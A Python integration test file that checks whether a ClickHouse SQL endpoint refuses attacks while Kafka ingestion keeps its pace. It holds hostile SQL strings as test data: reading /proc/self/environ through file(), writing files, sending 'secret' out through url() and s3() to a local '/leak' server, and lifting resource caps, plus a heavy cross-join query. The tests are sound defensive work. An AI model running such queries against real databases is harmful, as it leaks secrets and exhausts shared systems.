"""Attacks on the sink's SQL endpoint and on the raw tables, against a real stack (issue 15).

Each attack is refused with a clear error to the analyst, leaves nothing behind (no file written,
no HTTP request sent), and ingestion keeps its pace meanwhile; an event of the wrong type on a
topic is dead-lettered with the reason, not stored.
"""

from __future__ import annotations

import asyncio
import http.server
import json
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from aiokafka import AIOKafkaProducer

from schemas import encode
from scopewatch.sqlclient import SqlError, run_sql
from stream_jobs.runtime.settings import Settings
from support.pipeline import wait_rows
from support.samples import SAMPLES

pytestmark = pytest.mark.integration

HEAVY = "SELECT count() FROM numbers(100000) AS a, numbers(100000) AS b WHERE sipHash64(a.number, b.number) = 0"


def refused(settings: Settings, sql: str) -> str:
    with pytest.raises(SqlError) as info:
        run_sql(settings, sql)
    return str(info.value)


def _sample(kind: type) -> Any:
    return next(record for _table, record in SAMPLES if type(record) is kind)


def _calls(n: int, tag: str) -> list[Any]:
    from schemas import ToolCall

    base = _sample(ToolCall)
    return [base.model_copy(update={"event_id": str(uuid.uuid4()), "call_id": f"{tag}-{i}"}) for i in range(n)]


def _send(settings: Settings, messages: list[tuple[str, bytes]]) -> None:
    async def go() -> None:
        producer = AIOKafkaProducer(bootstrap_servers=settings.kafka_bootstrap)
        await producer.start()
        try:
            for topic, value in messages:
                await producer.send_and_wait(topic, value, key=b"s")
        finally:
            await producer.stop()

    asyncio.run(go())


def _stats(settings: Settings) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((settings.run_dir / "sink-stats.json").read_text())
    return data


class _Pace:
    """Publishes tool calls while an attack runs and records how long each took to land."""

    def __init__(self, settings: Settings) -> None:
        self.settings = settings
        self.lands: list[float] = []

    def probe(self, n: int = 5) -> None:
        tag = f"pace{uuid.uuid4().hex[:8]}"
        calls = _calls(n, tag)
        started = time.monotonic()
        _send(self.settings, [(self.settings.topics.tool_calls, encode(c)) for c in calls])
        before = time.monotonic()
        while time.monotonic() - before < 30:
            stored = _stats(self.settings).get("rows.tool_calls", 0)
            if stored >= self._expected:
                break
            time.sleep(0.1)
        self.lands.append(time.monotonic() - started)

    _expected = 0


@pytest.fixture
def pace(pipeline: Settings) -> Iterator[_Pace]:
    p = _Pace(pipeline)
    p._expected = _stats(pipeline).get("rows.tool_calls", 0)
    slow_before = _stats(pipeline).get("slow_inserts", 0)
    yield p
    time.sleep(2.5)  # the next stats snapshot
    assert _stats(pipeline).get("slow_inserts", 0) == slow_before, "an insert waited more than 1 s"


def _with_pace(pace: _Pace, n: int = 5) -> None:
    pace._expected += n
    pace.probe(n)
    assert max(pace.lands) < 10, pace.lands


def test_file_table_function_cannot_read_the_sinks_environment(pipeline: Settings, pace: _Pace) -> None:
    message = refused(pipeline, "SELECT * FROM file('/proc/self/environ', 'RawBLOB')")
    assert "table function file() is not allowed" in message
    assert "function file() is not allowed" in refused(pipeline, "SELECT file('/proc/self/environ')")
    _with_pace(pace)


def test_insert_into_function_file_writes_nothing(pipeline: Settings, pace: _Pace, tmp_path: Path) -> None:
    target = tmp_path / "written.tsv"
    assert "read-only" in refused(pipeline, f"INSERT INTO FUNCTION file('{target}', 'TSV') SELECT 1")
    assert "INTO OUTFILE is not allowed" in refused(pipeline, f"SELECT 1 INTO OUTFILE '{target}'")
    assert not target.exists()
    _with_pace(pace)


def test_url_sends_no_request(pipeline: Settings, pace: _Pace) -> None:
    hits: list[str] = []

    class Receiver(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Receiver)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_port}/leak"
        for sql in (
            f"SELECT * FROM url('{url}', 'RawBLOB')",
            f"SELECT * FROM view(SELECT * FROM url('{url}', 'RawBLOB'))",
            f"INSERT INTO FUNCTION url('{url}', 'TSV', 'x String') SELECT 'secret'",
            f"SELECT * FROM s3('{url}', 'RawBLOB')",
        ):
            assert "not allowed" in refused(pipeline, sql) or "read-only" in refused(pipeline, sql), sql
        _with_pace(pace)
        assert hits == []
    finally:
        server.shutdown()
        server.server_close()


def test_settings_in_the_query_cannot_lift_the_caps(pipeline: Settings, pace: _Pace) -> None:
    assert "SETTINGS and SET are not allowed" in refused(
        pipeline, "SELECT * FROM numbers(1000000) SETTINGS max_result_rows = 0"
    )
    assert "SETTINGS and SET are not allowed" in refused(pipeline, "SELECT 1 SETTINGS max_execution_time = 0")
    assert "read-only" in refused(pipeline, "SET max_result_rows = 0")
    assert "TOO_MANY_ROWS" in refused(pipeline, "SELECT * FROM numbers(1000000)")
    # a constant column counts once in ClickHouse's own byte limit: the endpoint counts what it sends
    message = refused(pipeline, "SELECT concat(repeat('x', 1000000), repeat('y', 1000000)) FROM numbers(100000)")
    assert "larger than" in message or "TOO_MANY_ROWS_OR_BYTES" in message or "MEMORY_LIMIT" in message, message
    _with_pace(pace)


def test_a_heavy_query_stops_at_its_limit_and_ingestion_keeps_its_pace(pipeline: Settings, pace: _Pace) -> None:
    errors: list[str] = []

    def heavy() -> None:
        try:
            run_sql(pipeline, HEAVY)
        except SqlError as exc:
            errors.append(str(exc))

    thread = threading.Thread(target=heavy)
    started = time.monotonic()
    thread.start()
    time.sleep(1.0)
    for _ in range(3):  # tool calls published while the query runs land as fast as ever
        assert thread.is_alive(), errors
        _with_pace(pace)
    thread.join(timeout=pipeline.query_timeout_seconds + 30)
    assert errors and "TIMEOUT_EXCEEDED" in errors[0], errors
    assert time.monotonic() - started < pipeline.query_timeout_seconds + 15


def test_an_event_of_the_wrong_type_on_a_topic_is_dead_lettered(pipeline: Settings) -> None:
    from schemas import GrantIssued, ToolCall

    grant = _sample(GrantIssued).model_copy(update={"event_id": str(uuid.uuid4()), "grant_id": uuid.uuid4().hex})
    call = _sample(ToolCall).model_copy(update={"event_id": str(uuid.uuid4()), "call_id": uuid.uuid4().hex})
    topics = pipeline.topics
    _send(pipeline, [(topics.tool_calls, encode(grant)), (topics.grants, encode(call))])
    db = pipeline.clickhouse_database
    rows = wait_rows(
        pipeline,
        f"SELECT source_topic, reason FROM {db}.dead_letters WHERE stage = 'sink' AND "
        f"(reason LIKE '%grant_issued does not belong%' OR reason LIKE '%tool_call does not belong%') "
        f"AND source_topic IN ('{topics.tool_calls}', '{topics.grants}') ORDER BY source_topic",
        lambda r: len(r) >= 2,
    )
    reasons = {topic: reason for topic, reason in rows}
    assert f"a grant_issued does not belong on {topics.tool_calls}" in str(reasons[topics.tool_calls])
    assert f"a tool_call does not belong on {topics.grants}" in str(reasons[topics.grants])
    found = run_sql(
        pipeline,
        f"SELECT (SELECT count() FROM {db}.consent_events WHERE event_id = '{grant.event_id}'), "
        f"(SELECT count() FROM {db}.tool_calls WHERE event_id = '{call.event_id}')",
    )["rows"]
    assert found == [[0, 0]]
